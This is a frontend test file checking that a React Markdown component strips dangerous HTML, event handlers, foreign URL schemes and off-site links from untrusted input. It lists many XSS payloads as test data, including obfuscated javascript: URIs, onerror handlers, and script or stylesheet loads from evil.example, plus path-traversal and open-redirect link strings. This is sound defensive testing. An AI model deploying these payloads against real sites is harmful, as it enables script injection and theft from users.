import { fireEvent, render, screen, within } from '@testing-library/react'
import { MemoryRouter } from 'react-router-dom'
import { describe, expect, it } from 'vitest'
import { parseHeadings } from '#src/ui/markdown/headings.ts'
import { Markdown } from '#src/ui/markdown/Markdown.tsx'
import { parseMarkdownLink } from '#src/ui/markdown/markdown-link.ts'

const shown = (source: string, headingIds = false) =>
  render(
    <MemoryRouter>
      <Markdown source={source} headingIds={headingIds} />
    </MemoryRouter>,
  ).container

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#9;script:alert(1)',
  '&#106avascript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://site.invalid/1',
  'file:///etc/passwd',
  'intent://x',
  'ftp://example.com',
  'view-source:https://example.com',
]
const html = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)//',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg/onload=alert(1)>',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src=//evil.example>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">**x**</div>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<Markdown onClick={alert(1)} dangerouslySetInnerHTML={{__html:"<img src=x onerror=alert(1)>"}} />',
  'text <b onclick="alert(1)">bold</b> text',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '> [!"><img src=x onerror=alert(1)>]\n> text',
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '[x]: javascript:alert(1)\n\n[x] ![x]',
  'foot[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
]
const corpus = [
  ...html,
  ...schemes.flatMap((address) => [`[x](${address})`, `[x](<${address}>)`, `<${address}>`, `![x](${address})`, address]),
]

const allowedTags = new Set(
  'DIV P H2 H3 H4 H5 H6 A UL OL LI BLOCKQUOTE HEADER FOOTER PRE CODE BUTTON SVG PATH RECT FIGURE TABLE THEAD TBODY TR TH TD INPUT STRONG EM DEL SUP BR HR IMG SPAN'.split(
    ' ',
  ),
)

describe('Markdown written by anybody', () => {
  it.each(corpus)('shows %j without a handler, a script or a foreign scheme', (source) => {
    for (const headingIds of [false, true]) {
      const container = shown(source, headingIds)
      for (const element of container.querySelectorAll('*')) {
        expect(allowedTags, element.outerHTML).toContain(element.tagName.toUpperCase())
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^(on|style|srcdoc|action|formaction|xlink|dangerously)/i)
          if (name === 'href' || name === 'src') expect(value).toMatch(/^(https?:\/\/|mailto:|\/(?!\/)|#)/)
        }
      }
    }
  })

  it('keeps raw HTML as the text it was written as', () => {
    expect(shown('before <b>bold</b> after')).toHaveTextContent('before <b>bold</b> after')
  })

  it('opens other sites in a new tab that learns nothing of this one', () => {
    shown('[docs](https://example.com/a) and https://example.org')
    for (const link of screen.getAllByRole('link')) {
      expect(link).toHaveAttribute('target', '_blank')
      expect(link).toHaveAttribute('rel', 'noopener noreferrer')
    }
    expect(screen.getAllByRole('link')).toHaveLength(2)
  })

  it('stays on this site for its own paths, and leaves files to the browser', () => {
    shown('[market](/market?gpu=A100#top) [spec](/openapi.json)')
    const market = screen.getByRole('link', { name: 'market' })
    expect(market).toHaveAttribute('href', '/market?gpu=A100#top')
    expect(market).not.toHaveAttribute('target')
    expect(parseMarkdownLink('/openapi.json')).toEqual({ kind: 'file', href: '/openapi.json' })
  })

  it.each([
    ['//evil.example/x', { kind: 'outside', href: 'https://evil.example/x' }],
    ['/\\evil.example', null],
    ['\\\\evil.example', null],
    ['docs/readme', null],
    ['../up', null],
    ['mailto:a@example.com', { kind: 'mail', href: 'mailto:a@example.com' }],
    ['/a/../b', { kind: 'page', href: '/b' }],
    ['/x/..//evil.example', null],
    ['/.//evil.example/p', null],
    ['/%2e%2e//evil.example', null],
    ['/x/../\\evil.example', null],
    ['/x//y', { kind: 'page', href: '/x//y' }],
    ['#place', { kind: 'place', href: '#place' }],
    ['https://[', null],
  ])('reads the address %j as a browser does', (href, link) => expect(parseMarkdownLink(href)).toEqual(link))

  it('loads no picture from another site', () => {
    const container = shown('![a cat](https://example.com/cat.png) ![ours](/images/a.webp)')
    expect([...container.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual(['/images/a.webp'])
    expect(screen.getByRole('link', { name: /a cat/ })).toHaveAttribute('href', 'https://example.com/cat.png')
  })

  it('gives no id a stranger chose', () => {
    const container = shown('# root\n\n## token\n\nfoot[^token]\n\n[^token]: note')
    expect(container.querySelectorAll('[id]')).toHaveLength(0)
  })
})

describe('Markdown of our own', () => {
  it('gives its headings ids, links to themselves, and lists them with the same ids', () => {
    const source = '## 按量计费\n\n### SSH 与 sftp：怎么选\n\n## 按量计费\n\n```sh\n# no heading\n```'
    const container = shown(source, true)
    const ids = [...container.querySelectorAll('h2, h3')].map((heading) => heading.id)
    expect(parseHeadings(source)).toEqual([
      { id: ids[0], text: '按量计费', level: 2 },
      { id: ids[1], text: 'SSH 与 sftp：怎么选', level: 3 },
      { id: ids[2], text: '按量计费', level: 2 },
    ])
    expect(new Set(ids).size).toBe(3)
    expect(within(container).getAllByRole('link')[0]).toHaveAttribute('href', `#${ids[0]}`)
  })

  it('copies a block of code as it was written', async () => {
    const written: string[] = []
    Object.assign(navigator, { clipboard: { writeText: async (text: string) => void written.push(text) } })
    shown('```sh\nssh -p 2222 <id>@host\n```')
    fireEvent.click(screen.getByRole('button', { name: '复制代码' }))
    expect(written).toEqual(['ssh -p 2222 <id>@host'])
  })

  it('names its callouts in words', () => {
    shown('> [!WARNING]\n> 释放后无法恢复')
    expect(screen.getByText('注意')).toBeInTheDocument()
    expect(screen.getByText('释放后无法恢复')).toBeInTheDocument()
  })
})
